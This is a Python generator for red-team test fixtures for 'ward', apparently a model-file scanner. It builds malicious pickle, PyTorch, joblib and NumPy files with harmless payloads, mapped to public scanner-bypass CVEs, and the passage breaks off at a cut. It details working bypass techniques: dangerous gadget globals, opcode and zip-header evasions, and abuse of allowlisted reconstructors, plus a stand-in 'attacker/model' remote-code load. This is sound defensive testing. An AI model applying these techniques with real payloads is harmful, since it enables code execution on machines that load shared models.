#!/usr/bin/python3
"""Red team for ward's pickle, PyTorch, joblib and NumPy analysis, built from
the 2025-26 public record. Run with Debian's python3 (numpy, torch only to
write real containers around hand-made pickles):

    /usr/bin/python3 checks/model/testdata/redteam-pickle/gen_redteam_pickle.py

Every file here is WRITTEN, never loaded: the payloads would run. They are
harmless (os.system('true'), or writing /tmp/ward-redteam), but nothing in
this script or in ward ever unpickles them. manifest.json lists, per file,
the technique, its public source, the loader that would run it and the
finding ward must give (redteam_pickle_test.go); the README table is
printed by `gen_redteam_pickle.py --table`.
"""
import bz2, gzip, io, json, lzma, os, struct, sys, tarfile, zipfile, zlib

HERE = os.path.dirname(os.path.abspath(__file__))
sys.dont_write_bytecode = True  # no __pycache__ in testdata
sys.path.insert(0, os.path.dirname(HERE))  # redteam_wire.py, shared by the red-team generators
from redteam_wire import bu, glob  # noqa: E402
OUT = os.path.join(HERE, "malicious")
entries = []

CMD = "true"
TOUCH = "touch /tmp/ward-redteam"


def out(name, data, technique, source, loader, rule, evidence):
    p = os.path.join(OUT, name)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(data)
    entries.append(dict(File=name, Format=name.split("/")[0], Technique=technique, Source=source,
                        Loader=loader, Rule=rule, Evidence=evidence))


# ---------------------------------------------------------------- opcodes
def su(s):  # SHORT_BINUNICODE or BINUNICODE
    b = s.encode()
    return (b"\x8c" + bytes([len(b)]) if len(b) < 256 else b"X" + struct.pack("<I", len(b))) + b


def call(mod, name, *args, proto=2):
    """mod.name(*args) with GLOBAL, MARK, BINUNICODE args, TUPLE, REDUCE."""
    head = b"\x80" + bytes([proto]) if proto >= 2 else b""
    return head + glob(mod, name) + b"(" + b"".join(bu(a) for a in args) + b"tR"


def p0call(mod, name, arg):  # protocol 0 only: GLOBAL, MARK, UNICODE, TUPLE, REDUCE
    return glob(mod, name) + b"(V" + arg.encode() + b"\ntR"


def sg(mod, name):  # STACK_GLOBAL (protocol 4)
    return su(mod) + su(name) + b"\x93"


SYS = call("os", "system", CMD) + b"."
CRIT, HIGH = "model-pickle-dangerous-global", "model-pickle-unknown-call"
MAL, NA = "model-pickle-malformed", "model-not-fully-analysed"

JF = "JFrog, picklescan zero-days (2025): "
SN = "Sonatype, picklescan reports (2025): "
RL = "ReversingLabs, nullifAI (Feb 2025)"
FK = "fickling / picklescan / ModelAudit denylists and tests (2025-26): "

# ---------------------------------------------------------------- pickle: gadgets
gadgets = [
    ("asyncio_subprocess", "asyncio.unix_events", "_UnixSubprocessTransport._start", CMD, JF + "CVE-2025-10157, submodule of an unsafe module"),
    ("pip_main", "pip", "main", "install --index-url http://127.0.0.1:9/ x", "CVE-2025-1716 (pip.main was not in picklescan's list)"),
    ("pip_internal", "pip._internal.cli.main", "main", "install x", "CVE-2025-1716 variant through pip's internal entry point"),
    ("runpy_run_code", "runpy", "_run_code", "import os", FK + "runpy._run_code"),
    ("cprofile_run", "cProfile", "run", "__import__('os').system('true')", FK + "cProfile.run"),
    ("timeit", "timeit", "timeit", "__import__('os').system('true')", FK + "timeit.timeit"),
    ("code_interact", "code", "InteractiveInterpreter.runsource", "__import__('os').system('true')", FK + "code.InteractiveInterpreter"),
    ("pty_spawn", "pty", "spawn", CMD, FK + "pty.spawn"),
    ("pydoc_pipepager", "pydoc", "pipepager", "x", FK + "pydoc.pipepager"),
    ("uuid_get_command", "uuid", "_get_command_stdout", CMD, FK + "uuid._get_command_stdout"),
    ("osx_support", "_osx_support", "_read_output", CMD, FK + "_osx_support._read_output"),
    ("aix_support", "_aix_support", "_read_cmd_output", CMD, FK + "_aix_support._read_cmd_output"),
    ("imaplib_stream", "imaplib", "IMAP4_stream", CMD, FK + "imaplib.IMAP4_stream"),
    ("numpy_runstring", "numpy.testing._private.utils", "runstring", "import os", FK + "numpy.testing runstring"),
    ("torch_bottleneck", "torch.utils.bottleneck.__main__", "run_cprofile", "import os", FK + "torch.utils.bottleneck"),
    ("torch_execwrapper", "torch.jit.unsupported_tensor_ops", "execWrapper", "import os", FK + "torch.jit execWrapper"),
    ("torch_inductor_compile", "torch._inductor.codecache", "compile_file", "/tmp/ward-redteam.c", FK + "torch._inductor codecache"),
    ("torch_config_load", "torch.utils._config_module", "ConfigModule.load_config", "x", FK + "ConfigModule.load_config"),
    ("shutil_rmtree", "shutil", "rmtree", "/tmp/ward-redteam", FK + "shutil.rmtree"),
    ("io_fileio", "_io", "FileIO", "/tmp/ward-redteam", FK + "_io.FileIO (C module alias)"),
    ("venv_create", "venv", "create", "/tmp/ward-redteam", FK + "venv.create"),
    ("ensurepip", "ensurepip", "_run_pip", "x", FK + "ensurepip._run_pip"),
    ("idlelib_run", "idlelib.pyshell", "ModifiedInterpreter.runcommand", "import os", FK + "idlelib"),
    ("ctypes_cdll", "ctypes", "CDLL", "libc.so.6", FK + "ctypes.CDLL"),
    ("webbrowser_open", "webbrowser", "open", "file:///tmp/ward-redteam", FK + "webbrowser.open"),
    ("socket_connection", "socket", "create_connection", "127.0.0.1", FK + "socket.create_connection"),
    ("sys_modules_set", "sys", "modules.__setitem__", "x", FK + "sys.modules mutation"),
    ("distutils_write_file", "distutils.file_util", "write_file", "/tmp/ward-redteam", "fickling PR #210 (Jan 2026), CVE-2025-10155/10156 file-writing bypasses"),
    ("f2py_getlincoef", "numpy.f2py.crackfortran", "getlincoef", "__import__('os').system('true')", "fickling PR #210: numpy.f2py crackfortran evaluates expressions"),
    ("operator_methodcaller", "_operator", "methodcaller", "system", "GHSA-m273-6v24-x4m4 / GHSA-955r-x9j8-7rhh (picklescan, 2025): _operator bypass"),
    ("profile_run", "profile", "run", "__import__('os').system('true')", "GHSA-46h3-79wf-xr6c / GHSA-4675-36f9-wf6r (picklescan, 2025): profilers run code"),
    ("trace_run", "trace", "Trace.runctx", "__import__('os').system('true')", "GHSA-4675-36f9-wf6r (picklescan, 2025): trace"),
    ("bdb_run", "bdb", "Bdb.run", "__import__('os').system('true')", "GHSA-4675-36f9-wf6r (picklescan, 2025): bdb"),
    ("doctest_debug_script", "doctest", "debug_script", "import os", "GHSA-4675-36f9-wf6r (picklescan, 2025): doctest"),
    ("c_pickle_loads", "_pickle", "loads", "x", "GHSA-84r2-jw7c-4r5q (picklescan, 2025): nested pickle through the C module"),
    ("functools_partial", "functools", "partial", "x", "fickling PR #210: functools.partial wrapper bypass"),
    ("aiohttp_request", "aiohttp", "request", "GET", "GHSA-hgrh-qx5j-jfwx (picklescan, 2025): network modules"),
    ("lib2to3_refactor", "lib2to3.pgen2.pgen", "generate_grammar", "/tmp/ward-redteam", "GHSA-r8g5-cgf2-4m4m (picklescan, 2025): lib2to3"),
]
for name, mod, fn, arg, src in gadgets:
    out("pickle/%s.pkl" % name, call(mod, fn, arg) + b".", "gadget %s.%s called by REDUCE" % (mod, fn), src,
        "pickle.load / torch.load(weights_only=False)", CRIT, mod)

# a function no denylist names: the allowlist makes it a finding
out("pickle/unlisted_gadget.pkl", call("distutils_helpers_future", "spawn_shell", CMD) + b".",
    "a gadget in a module nobody has listed yet", "method of issue 13 (allowlist, not denylist)",
    "pickle.load", HIGH, "distutils_helpers_future.spawn_shell")
out("pickle/pandas_expr.pkl", call("pandas.core.computation.expr", "Expr", "__import__('os').system('true')") + b".",
    "pandas Expr parses and evaluates its argument; 'pandas.core.' prefix used to admit it", "issue 13 (prefix allowlist)",
    "pandas.read_pickle / pickle.load", HIGH, "pandas.core.computation.expr.Expr")
out("pickle/sentence_transformers_remote.pkl",
    b"\x80\x04" + sg("sentence_transformers", "SentenceTransformer") + b"(" + su("attacker/model") + b"NNNNN" +
    su("/tmp/ward-redteam") + b"\x88tR.", "SentenceTransformer('attacker/model', ..., trust_remote_code=True) called by "
    "REDUCE (8th positional argument, sentence-transformers 3.x); the 'sentence_transformers.' prefix used to admit it",
    "issue 13 (prefix allowlist)", "pickle.load", HIGH, "sentence_transformers.SentenceTransformer")

out("pickle/pkgutil_resolve_name.pkl", b"\x80\x02" + glob("pkgutil", "resolve_name") + b"(" + bu("os:system") + b"tR(" + bu(CMD) +
    b"tR.", "pkgutil.resolve_name('os:system')('true'): resolves any callable by name",
    "ModelAudit's disclosure (2026): a universal picklescan bypass through pkgutil.resolve_name", "pickle.load", CRIT, "pkgutil.resolve_name")
out("pickle/popped_call.pkl", call("os", "system", CMD) + b"0" + b"N.", "the payload's result is POPped and None returned",
    "ModelAudit's disclosure (2026): fickling dropped calls whose result is popped", "pickle.load", CRIT, "os.system")

# ---------------------------------------------------------------- pickle: encodings
out("pickle/proto0_no_header.pkl", p0call("posix", "system", CMD) + b".", "protocol 0, no PROTO, posix alias",
    FK + "protocol 0 tests", "pickle.load", CRIT, "posix.system")
out("pickle/proto1_binput.pkl", glob("os", "system") + b"q\x00(" + bu(CMD) + b"tR.", "protocol 1 (BINPUT, BINUNICODE), no PROTO",
    FK + "protocol 1", "pickle.load", CRIT, "os.system")
out("pickle/long_first_string.pkl", bu("A" * 70000) + b"0" + p0call("os", "system", CMD) + b".",
    "no PROTO, a first string longer than any probe window, then the payload", "issue 13 (sniffing)", "pickle.load", CRIT, "os.system")
out("pickle/mark_flood.pkl", b"(" * 20000 + p0call("os", "system", CMD) + b".",
    "20,000 MARKs before the payload (no PROTO)", "issue 13 (sniffing)", "pickle.load", CRIT, "os.system")
out("pickle/proto4_long_string.pkl", b"\x80\x04" + bu("B" * 100000) + b"0" + sg("os", "system") + su(CMD) + b"\x85R.",
    "protocol 4, 100 KB string before STACK_GLOBAL", "issue 13 (sniffing)", "pickle.load", CRIT, "os.system")
benign0 = b"(dp0\nVlr\np1\nF0.1\ns."
out("pickle/second_stream_proto0.pkl", benign0 + p0call("os", "system", CMD) + b".",
    "a benign protocol 0 stream, then a protocol 0 payload read by a second pickle.load", "issue 13 (later streams)",
    "pickle.load twice", CRIT, "os.system")
out("pickle/third_stream_after_junk.pkl", b"\x80\x04}\x94." + b"\x00" * 512 + b"\x80\x04}." + b"JUNK" * 3 +
    p0call("subprocess", "getoutput", CMD) + b".", "payload in a protocol 0 stream behind junk after two streams",
    "issue 13 (later streams)", "a loader that seeks to an offset", CRIT, "subprocess.getoutput")
out("pickle/memo_stack_global.pkl", b"\x80\x04" + su("o") + b"\x94" + su("s") + b"\x94" + su("os") + b"\x94" + su("system") +
    b"\x94h\x02h\x03\x93" + su(CMD) + b"\x85R.", "STACK_GLOBAL operands fetched from the memo",
    FK + "memo indirection", "pickle.load", CRIT, "os.system")
out("pickle/getattr_builtins.pkl", b"\x80\x02" + glob("builtins", "getattr") + glob("builtins", "__import__") + b"(" + bu("os") +
    b"tR" + bu("system") + b"\x86R(" + bu(CMD) + b"tR.", "getattr(__import__('os'), 'system')('true')",
    FK + "getattr chains", "pickle.load", CRIT, "os.system")
out("pickle/nested_zlib_loads.pkl", b"\x80\x02" + glob("pickle", "loads") + b"(" + glob("zlib", "decompress") + b"(B" +
    struct.pack("<I", len(zlib.compress(SYS))) + zlib.compress(SYS) + b"tRtR.", "pickle.loads(zlib.decompress(...))",
    FK + "nested payloads", "pickle.load", CRIT, "nested payload")
out("pickle/broken_after_payload.pkl", SYS[:-1] + b"\xff\xfe", "payload, then an invalid opcode (the load fails after it ran)",
    RL + ": broken pickle", "pickle.load", CRIT, "os.system")
out("pickle/named_json.json", SYS, "a pickle named .json", JF + "CVE-2025-10155, file-extension bypass", "pickle.load", CRIT, "os.system")
out("pickle/named_bin.bin", SYS, "a plain pickle named pytorch_model.bin", JF + "CVE-2025-10155, extension bypass",
    "torch.load (falls back to pickle for non-zip files)", CRIT, "os.system")
out("pickle/module_override.pkl", b"\x80\x04" + sg("torch", "_utils") + b"\x94}" + su("_rebuild_tensor_v2") + su("os.system") +
    b"sb0" + sg("torch._utils", "_rebuild_tensor_v2") + su(CMD) + b"\x85R.", "BUILD on a module: an allowed name becomes os.system",
    FK + "module attribute override", "pickle.load", "model-pickle-mutates-module", "torch._utils")

# ---------------------------------------------------------------- pickle: entries for newer library versions
# Abuse of the allowlist entries added for NumPy 2, scikit-learn 1.3+, pandas
# 2/3 and pyarrow (issue 13): each reconstructor is handed a callable, a
# class or a nested payload it would run or pass on.
NL = "issue 13 (allowlist entries for newer library versions): "


def tup(*parts):  # MARK parts TUPLE
    return b"(" + b"".join(parts) + b"t"


def red(fn, *args):  # fn(*args) where fn and args are opcode strings
    return fn + tup(*args) + b"R"


def NEWOBJ_BUILD(cls, statecall):  # cls.__new__(cls) then BUILD {'k': statecall}
    return cls + b")\x81" + b"}" + su("k") + statecall + b"sb"


def binbytes(b):  # BINBYTES (protocol 3+)
    return b"B" + struct.pack("<I", len(b)) + b


newer = [
    ("numpy_randomstate_ctor_callable.pkl",
     red(glob("numpy.random._pickle", "__randomstate_ctor"), bu("import os; os.system('true')"),
         glob("sklearn.utils._testing", "assert_run_python_script")),
     "__randomstate_ctor(name, ctor) calls ctor(name): a test helper that runs Python source in a subprocess",
     "numpy/random/_pickle.py", HIGH, "sklearn.utils._testing.assert_run_python_script"),
    ("numpy_generator_ctor_callable.pkl",
     red(glob("numpy.random._pickle", "__generator_ctor"), bu(CMD), glob("IPython.utils.process", "system")),
     "__generator_ctor(name, ctor) calls ctor(name): IPython's shell-command runner", "numpy/random/_pickle.py",
     HIGH, "IPython.utils.process.system"),
    ("numpy_bit_generator_ctor_class.pkl",
     red(glob("numpy.random._pickle", "__bit_generator_ctor"), glob("tkinter", "Tk")),
     "NumPy 2's __bit_generator_ctor(cls) returns cls(): an arbitrary class's __init__ runs",
     "numpy/random/_pickle.py (v2.0.0+)", HIGH, "tkinter.Tk"),
    ("numpy_stringdtype_kwargs_nested_call.pkl",
     red(glob("numpy._core._internal", "_convert_to_stringdtype_kwargs"), b"K\x01",
         red(glob("IPython.utils.process", "system"), bu(CMD))),
     "StringDType's reconstructor given a na_object computed by an unknown call",
     "numpy/_core/_internal.py _convert_to_stringdtype_kwargs", HIGH, "IPython.utils.process.system"),
    ("numpy_seedsequence_setstate_payload.pkl",
     red(glob("numpy.random.bit_generator", "__pyx_unpickle_SeedSequence"), glob("numpy.random.bit_generator", "SeedSequence"),
         b"K\x00", b"N") + tup(red(glob("os", "system"), bu(CMD)), b"K\x00") + b"b",
     "Cython auto-pickle reconstructor whose BUILD state holds a call", "numpy/random/bit_generator.pyx", CRIT, "os.system"),
    ("sklearn_cyloss_class_popen.pkl",
     red(glob("sklearn._loss._loss", "__pyx_unpickle_CyHuberLoss"), glob("subprocess", "Popen"), b"K\x00", b")"),
     "Cython loss reconstructor handed another class to instantiate", "sklearn/_loss/_loss.pyx.tp", CRIT, "subprocess.Popen"),
    ("pandas_stringdtype_na_eval.pkl",
     red(sg("pandas.core.arrays.string_", "StringDtype"), su("pyarrow"), sg("builtins", "eval")),
     "StringDtype(storage, na_value) with a dangerous callable as na_value (STACK_GLOBAL)",
     "pandas/core/arrays/string_.py StringDtype.__reduce__", CRIT, "builtins.eval"),
    ("pyarrow_py_buffer_nested_pickle.pkl",
     red(glob("pyarrow.lib", "py_buffer"), red(glob("pickle", "loads"), binbytes(SYS))),
     "py_buffer of bytes produced by pickle.loads of a second payload", "pyarrow io.pxi Buffer.__reduce_ex__",
     CRIT, "os.system"),
    ("pyarrow_restore_array_subprocess.pkl",
     red(glob("pyarrow.lib", "_restore_array"),
         tup(red(glob("pyarrow.lib", "type_for_alias"), bu("string")), b"K\x01", b"K\x00", b"K\x00",
             b"(N" + red(glob("pyarrow.lib", "py_buffer"), red(glob("subprocess", "check_output"), tup(bu(CMD)))) + b"l",
             b"]", b"N")),
     "_restore_array whose buffer is the output of a command", "pyarrow array.pxi Array.__reduce__", CRIT,
     "subprocess.check_output"),
    ("pyarrow_type_for_alias_globals.pkl",
     red(glob("builtins", "getattr"), glob("pyarrow.lib", "type_for_alias"), bu("__globals__")),
     "getattr on an allowlisted function to reach its module globals", "pyarrow types.pxi DataType.__reduce__",
     CRIT, "builtins.getattr"),
    ("pytz_fixedoffset_nested_call.pkl", red(glob("pytz", "FixedOffset"), red(glob("subprocess", "getoutput"), bu(CMD))),
     "pytz.FixedOffset(minutes) whose argument is a command's output", "pytz _FixedOffset.__reduce__", CRIT, "subprocess.getoutput"),
    ("sklearn_sgd_loss_callable.pkl", red(glob("sklearn.linear_model._sgd_fast", "Huber"), glob("builtins", "exec")),
     "an SGD loss class given a dangerous callable instead of its float", "sklearn/linear_model/_sgd_fast.pyx", CRIT, "builtins.exec"),
    ("scipy_kde_called.pkl", red(glob("scipy.stats._kde", "gaussian_kde"), red(glob("IPython.utils.process", "getoutput"), bu(CMD))),
     "a class allowlisted to be instantiated (NEWOBJ + BUILD) called with a computed argument", "scipy/stats/_kde.py", HIGH,
     "IPython.utils.process.getoutput"),
    ("hf_enum_nested_call.pkl", red(glob("transformers.trainer_utils", "IntervalStrategy"),
                                    red(glob("IPython.utils.process", "getoutput"), bu(CMD))),
     "a training_args.bin enum whose value is computed by an unknown call", "transformers trainer_utils.py ExplicitEnum",
     HIGH, "IPython.utils.process.getoutput"),
    ("hf_training_args_state_exec.pkl",
     NEWOBJ_BUILD(glob("transformers.training_args", "TrainingArguments"), red(glob("builtins", "exec"), bu("import os"))),
     "TrainingArguments NEWOBJ whose BUILD state runs exec", "transformers training_args.py", CRIT, "builtins.exec"),
    ("torch_new_dtype_called.pkl", red(sg("torch", "float8_e8m0fnu"), bu("x")),
     "a dtype allowlisted to be referenced, called with an argument", "torch/storage.py _new_dtypes", HIGH,
     "torch.float8_e8m0fnu"),
]
for name, body, technique, src, rule, ev in newer:
    proto = b"\x80\x04" if b"\x93" in body or name.startswith("pyarrow_py_buffer") else b"\x80\x02"
    out("pickle/" + name, proto + body + b".", technique, NL + src, "pickle.load / joblib.load / pandas.read_pickle", rule, ev)

# Bound methods the allowlist names (getattr on an object built by calling a
# class directly): referenced only, never called, never shadowed.
POISSON = glob("scipy.stats._discrete_distns", "poisson_gen")
ENT = "scipy.stats._discrete_distns.poisson_gen._entropy"
bound = [
    ("scipy_bound_method_called.pkl", red(red(glob("builtins", "getattr"), POISSON + b")\x81", bu("_entropy")), bu(CMD)),
     "an allowlisted bound method (SciPy's vectorize(self._entropy)) called while loading", HIGH, ENT),
    ("scipy_bound_method_shadowed.pkl",
     red(red(glob("builtins", "getattr"), POISSON + b")\x81}" + su("_entropy") + glob("IPython.utils.process", "system") + b"sb",
             bu("_entropy")), bu(CMD)),
     "BUILD stores a command runner under the bound method's name, then getattr and a call reach it", HIGH, ENT),
    ("scipy_unlisted_method.pkl", red(glob("builtins", "getattr"), POISSON + b")\x81", bu("rvs")),
     "getattr of a method the allowlist does not name on an allowlisted object", CRIT, "builtins.getattr"),
    ("scipy_method_via_reconstructor.pkl",
     red(glob("builtins", "getattr"), red(glob("copyreg", "_reconstructor"), POISSON, glob("builtins", "object"), b"N"), bu("_entropy")),
     "the allowlisted method name on an object built by a reconstructor, not by calling its class", CRIT, "builtins.getattr"),
]
for name, body, technique, rule, ev in bound:
    out("pickle/" + name, b"\x80\x02" + body + b".", technique, "issue 13 (bound methods: SciPy 1.10 vecentropy, torch 1.13 "
        "OneCycleLR anneal_func)", "pickle.load / joblib.load", rule, ev)

# ---------------------------------------------------------------- PyTorch zip / legacy / tar
def torch_zip(pkl, root="archive", method=zipfile.ZIP_STORED, crc_bad=False, extra=None):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", method) as z:
        z.writestr(root + "/data.pkl", pkl)
        z.writestr(root + "/byteorder", "little")
        z.writestr(root + "/version", "3\n")
        for k, v in (extra or {}).items():
            z.writestr(root + "/" + k, v)
    data = bytearray(b.getvalue())
    if crc_bad:
        # CRC of data.pkl wrong in both headers: zipfile raises, miniz loads
        i = data.find(b"PK\x03\x04")
        data[i + 14] ^= 0xFF
        j = data.find(b"PK\x01\x02")
        data[j + 16] ^= 0xFF
    return bytes(data)


out("torch/crc_mismatch.pt", torch_zip(SYS, crc_bad=True), "torch zip whose data.pkl CRC is wrong",
    JF + "CVE-2025-10156, CRC bypass (zipfile fails, torch loads)", "torch.load", CRIT, "os.system")
z = bytearray(torch_zip(SYS))
i = z.find(b"PK\x03\x04")
z[i + 6] |= 0x01  # general purpose flag: "encrypted", in the local header only
out("torch/flag_bits.pt", bytes(z), "local header flag bits that make zipfile refuse the member",
    SN + "CVE-2025-1945, zip flag bits", "torch.load", CRIT, "os.system")
z = bytearray(torch_zip(SYS))
i = z.find(b"archive/data.pkl")
z[i:i + 16] = b"archive/data.txt"  # local header name differs from the central directory
out("torch/name_mismatch.pt", bytes(z), "local header names data.txt, central directory data.pkl",
    SN + "CVE-2025-1944, zip name mismatch", "torch.load", CRIT, "os.system")
out("torch/member_not_pkl.pt", torch_zip(b"\x80\x02}.", extra={"weights.bin": SYS}), "payload in a member that is not named .pkl",
    SN + "CVE-2025-1889, non-standard member name", "pickle.load of the member by custom loaders", CRIT, "os.system")
out("torch/other_root.pt", torch_zip(SYS, root="model_final_v2"), "archive root that is not 'archive'",
    FK + "torch zip root name", "torch.load", CRIT, "os.system")
out("torch/deflated.pt", torch_zip(SYS, method=zipfile.ZIP_DEFLATED), "deflated data.pkl", FK + "compressed members",
    "torch.load", CRIT, "os.system")
out("torch/second_stream_in_member.pt", torch_zip(b"\x80\x02}." + p0call("os", "system", CMD) + b"."),
    "a benign stream then a protocol 0 payload inside data.pkl", "issue 13 (streams inside archive members)",
    "custom loaders calling pickle.load twice", CRIT, "os.system")
out("torch/constants_pkl.pt", torch_zip(b"\x80\x02}.", extra={"constants.pkl": SYS, "code/__torch__.py": "x = 1\n"}),
    "TorchScript archive with the payload in constants.pkl", FK + "TorchScript constants", "torch.jit.load", CRIT, "os.system")
t = io.BytesIO()
with tarfile.open(fileobj=t, mode="w") as tf:
    for name, data in [("sys_info", b"\x80\x02}."), ("pickle", SYS), ("storages", b"\x80\x02K\x00."), ("tensors", b"\x80\x02K\x00.")]:
        ti = tarfile.TarInfo(name)
        ti.size = len(data)
        tf.addfile(ti, io.BytesIO(data))
out("torch/legacy_tar.pt", t.getvalue(), "legacy tar checkpoint, payload in its 'pickle' member",
    "CVE-2025-32434 (weights_only bypass through the legacy formats, torch < 2.6)", "torch.load(weights_only=True), torch < 2.6",
    CRIT, "os.system")
MAGIC = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
out("torch/legacy_magic_payload.pt", SYS + b"\x80\x02M\xe9\x03.\x80\x02}.\x80\x02}.\x80\x02].",
    "legacy format whose first pickle (the magic number) is the payload", "CVE-2025-32434 (legacy format)",
    "torch.load: reads the magic number with pickle_module.load", CRIT, "os.system")
out("torch/legacy_sysinfo_payload.pt", MAGIC + b"\x80\x02M\xe9\x03." + call("subprocess", "call", CMD) + b"." + b"\x80\x02}.\x80\x02].",
    "legacy format, payload in the sys_info pickle", "CVE-2025-32434 (legacy format)", "torch.load", CRIT, "subprocess.call")
def seven_zip_copy(name, payload):
    """A minimal 7z archive with one stored (copy) file, written by hand."""
    import binascii
    pack = payload
    # header: Header, MainStreamsInfo(PackInfo, UnpackInfo(Folder: Copy coder), SubStreams), FilesInfo
    def num(n):  # 7z UINT64 for small values
        assert n < 0x80 or n < 0x4000
        return bytes([n]) if n < 0x80 else bytes([0x80 | (n >> 8), n & 0xFF])
    hdr = bytearray()
    hdr += b"\x01"  # Header
    hdr += b"\x04"  # MainStreamsInfo
    hdr += b"\x06" + num(0) + num(1) + b"\x09" + num(len(pack)) + b"\x00"  # PackInfo
    hdr += b"\x07\x0b" + num(1) + b"\x00"  # UnpackInfo, Folder, 1 folder, not external
    hdr += num(1) + b"\x01\x00"  # 1 coder, flags: id size 1, simple; id 00 = Copy
    hdr += b"\x0c" + num(len(pack)) + b"\x00"  # CodersUnpackSize, End
    hdr += b"\x00"  # End of MainStreamsInfo
    hdr += b"\x05" + num(1)  # FilesInfo, 1 file
    nm = (name + "\x00").encode("utf-16-le")
    hdr += b"\x11" + num(len(nm) + 1) + b"\x00" + nm
    hdr += b"\x00\x00"  # End FilesInfo, End Header
    hdr = bytes(hdr)
    next_off = len(pack)
    start = struct.pack("<QQI", next_off, len(hdr), binascii.crc32(hdr))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", binascii.crc32(start)) + start + pack + hdr


out("torch/nullifai_7z.pt", seven_zip_copy("archive/data.pkl", SYS[:-1] + b"\xff"),
    "PyTorch model packed with 7z instead of zip, its pickle broken after the payload", RL,
    "extract, then torch.load / pickle.load of data.pkl", CRIT, "os.system")

# ---------------------------------------------------------------- joblib
def jwrap(arr_dtype_code, shape, elsize, flags, body, proto=4):
    """joblib NumpyArrayWrapper followed by its array bytes, as joblib.dump writes it."""
    p = b"\x80" + bytes([proto]) + sg("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}("
    p += su("subclass") + sg("numpy", "ndarray") + su("shape") + b"(" + b"".join(b"K" + bytes([s]) for s in shape) + b"t"
    p += su("order") + su("C") + su("dtype") + sg("numpy", "dtype") + su(arr_dtype_code) + b"\x89\x88\x87R"
    p += b"(K\x03" + su("|") + b"NNNJ" + struct.pack("<i", elsize) + b"K\x01K" + bytes([flags]) + b"tb"
    p += su("allow_mmap") + b"\x88" + su("numpy_array_alignment_bytes") + b"K\x10ub"
    return p + body


for comp, fn in [("gzip", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress),
                 ("lzma", lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE)), ("zlib", zlib.compress)]:
    out("joblib/payload.joblib.%s" % comp, fn(call("os", "system", CMD, proto=4) + b"."), "joblib file compressed with %s" % comp,
        FK + "joblib compressors", "joblib.load", CRIT, "os.system")
obj_inline = jwrap("O8", (2,), 8, 63, call("os", "system", CMD) + b".") + b"."
out("joblib/object_array_inline.joblib", obj_inline, "object array: joblib pickles it inline after the wrapper; payload there",
    FK + "joblib NumpyArrayWrapper", "joblib.load", CRIT, "os.system")
struct_obj = jwrap("V16", (1,), 16, 63, call("subprocess", "getoutput", CMD) + b".") + b"."
out("joblib/structured_object_inline.joblib", struct_obj, "structured dtype with an object field (code V16, flags say objects)",
    "issue 13 (joblib)", "joblib.load", CRIT, "subprocess.getoutput")
u_arr = jwrap("U5", (1,), 20, 8, b"\x00" * 0 + bytes([0]) + b"A\x00\x00\x00" * 5) + b"0" + call("os", "system", CMD)[2:] + b"."
out("joblib/unicode_array_then_payload.joblib", u_arr,
    "a 'U5' array (20 bytes an item, not 5) and the payload right after it", "issue 13 (joblib item sizes)", "joblib.load",
    CRIT, "os.system")
nd = b"\x80\x02" + glob("joblib.numpy_pickle_compat", "NDArrayWrapper") + b")\x81}(" + bu("filename") + bu("/tmp/ward-redteam/evil.npy") + \
    bu("subclass") + glob("numpy", "ndarray") + bu("allow_mmap") + b"\x89ub."
out("joblib/ndarraywrapper_absolute.pkl", nd, "legacy NDArrayWrapper naming an absolute sidecar (np.load(allow_pickle=True) opens it)",
    "issue 13 (joblib legacy sidecars)", "joblib.load (joblib < 0.10 files)", NA, "/tmp/ward-redteam/evil.npy")
nd2 = nd.replace(bu("/tmp/ward-redteam/evil.npy"), bu("../../outside/evil.npy"))
out("joblib/ndarraywrapper_dotdot.pkl", nd2, "legacy NDArrayWrapper naming a sidecar outside the folder",
    "issue 13 (joblib legacy sidecars)", "joblib.load", NA, "../../outside/evil.npy")


def npy(descr, body, version=1, fortran="False", shape="(1,)"):
    h = ("{'descr': %s, 'fortran_order': %s, 'shape': %s, }" % (descr, fortran, shape)).encode("latin1")
    if version == 1:
        pad = 64 - (10 + len(h) + 1) % 64
        h += b" " * pad + b"\n"
        return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + body
    pad = 64 - (12 + len(h) + 1) % 64
    h += b" " * pad + b"\n"
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<I", len(h)) + h + body


nd3 = nd.replace(bu("/tmp/ward-redteam/evil.npy"), bu("model.pkl_01.npy"))
out("joblib/sidecar/model.pkl", nd3, "legacy NDArrayWrapper whose sidecar next to it is an object .npy with a payload",
    "issue 13 (joblib legacy sidecars)", "joblib.load → numpy.load(allow_pickle=True)", CRIT, "os.system")
with open(os.path.join(OUT, "joblib/sidecar/model.pkl_01.npy"), "wb") as f:
    f.write(npy("'|O'", SYS))

# ---------------------------------------------------------------- NumPy
spellings = [
    ("O", "'O'"), ("pipe_O", "'|O'"), ("object", "'object'"), ("O8", "'|O8'"), ("escaped_hex", "'\\x4f'"),
    ("escaped_unicode", "'\\u004f'"), ("double_quoted", '"O"'), ("structured", "[('a', '<i4'), ('b', '|O')]"),
    ("subarray", "('O', (2,))"), ("nested_structured", "[('outer', [('inner', 'O')])]"),
    ("bytes_literal", "b'O'"), ("concat_literal", "'|' 'O'"),
]
for name, descr in spellings:
    out("numpy/object_%s.npy" % name, npy(descr, SYS), "object dtype spelled %s in the .npy header" % descr,
        "issue 13 (NumPy header literal)", "numpy.load(allow_pickle=True)", CRIT, "os.system")
out("numpy/object_v2_header.npy", npy("'|O'", SYS, version=2), "format version 2.0 header (4-byte length)",
    "NEP 1 .npy versions", "numpy.load(allow_pickle=True)", CRIT, "os.system")
out("numpy/object_v3_header.npy", npy("'|O'", SYS, version=3), "format version 3.0 header (UTF-8)",
    "NEP 1 .npy versions", "numpy.load(allow_pickle=True)", CRIT, "os.system")
b = io.BytesIO()
with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("weights.npy", npy("'<f4'", b"\x00" * 4))
    z.writestr("meta", npy("[('k', '|O')]", SYS))
out("numpy/npz_member_without_suffix.npz", b.getvalue(), "npz member without .npy suffix, structured object dtype",
    "issue 13 (.npz members)", "numpy.load(allow_pickle=True)['meta']", CRIT, "os.system")
b = io.BytesIO()
